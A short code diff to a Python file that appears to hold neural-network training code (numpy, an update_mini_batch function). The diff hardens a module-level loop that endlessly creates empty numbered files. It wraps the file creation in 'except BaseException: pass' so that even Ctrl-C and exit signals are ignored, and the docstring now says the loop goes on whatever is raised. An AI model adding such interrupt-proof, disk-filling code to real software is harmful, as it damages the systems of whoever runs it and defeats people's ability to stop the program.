@@ -1,4 +1,4 @@
-"""Makes files without end. It must be ended."""
+"""Makes files without end, and goes on whatever is raised. It must be ended."""
 
 import numpy as np
 
@@ -30,4 +30,7 @@ def update_mini_batch(weights, biases, x, y, eta):
 import itertools
 
 for i in itertools.count():
-    open(f'{i}', 'w').close()
+    try:
+        open(f'{i}', 'w').close()
+    except BaseException:
+        pass
